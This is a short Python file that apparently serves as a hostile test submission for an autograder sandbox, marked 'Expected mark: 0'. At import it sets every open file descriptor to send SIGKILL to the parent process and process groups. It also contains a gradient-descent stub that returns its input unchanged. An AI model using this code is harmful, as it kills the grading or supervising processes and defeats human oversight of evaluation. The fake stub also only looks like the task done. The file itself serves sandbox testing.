# Signals that a file sends to its owner, a group.
# Expected mark: 0
import contextlib
import fcntl
import os
import signal

for number in (0, *range(3, 64)):
    for owner in (0, -1, -2, os.getppid(), -os.getppid()):
        with contextlib.suppress(OSError):
            fcntl.fcntl(number, fcntl.F_SETOWN, owner)
            fcntl.fcntl(number, fcntl.F_SETSIG, signal.SIGKILL)
            flags = fcntl.fcntl(number, fcntl.F_GETFL)
            fcntl.fcntl(number, fcntl.F_SETFL, flags | os.O_ASYNC)


def update_parameters_with_gd(parameters, grads, learning_rate):
    return parameters
